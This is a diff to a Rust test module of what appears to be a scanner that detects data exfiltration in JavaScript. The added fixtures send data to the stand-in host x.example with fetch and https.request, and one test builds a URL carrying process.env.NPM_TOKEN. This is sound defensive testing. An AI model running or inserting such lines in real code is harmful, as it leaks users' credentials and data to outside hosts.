@@ -192,8 +192,22 @@ mod tests {
             "const u = new URL('https://x.example/a'); fetch(u.origin + '/?' + text)",
             "const u = new URL('https://api.example/?' + text); u.hostname = 'x.example'; fetch(u)",
             "const u = new URL('https://api.example/'); u.href = 'https://x.example/?' + text; fetch(u)",
+            "require('https').request({ host: 'x.example', path: text }).end()",
+            "const u = new URL('https://x.example/a'); require('https').request({ host: u.host, path: u.pathname + '?' + text }).end()",
         ] {
             assert_eq!(sent_to(code), ["x.example"], "{code}");
+        }
+    }
+
+    #[test]
+    fn what_stands_behind_the_host_is_told_apart() {
+        for (part, carries) in [("pathname", false), ("search", true), ("hash", false)] {
+            let code = format!(
+                "const u = new URL('https://x.example/a?b=' + process.env.NPM_TOKEN + '#c'); fetch('https://x.example/' + u.{part})"
+            );
+            let facts = extracted(&code).facts;
+            let does = |fact: &molehunt_model::Fact| matches!(&fact.behaviour, Behaviour::SendData(sent) if !sent.carries.is_empty());
+            assert_eq!(facts.iter().any(does), carries, "{part}");
         }
     }
 }
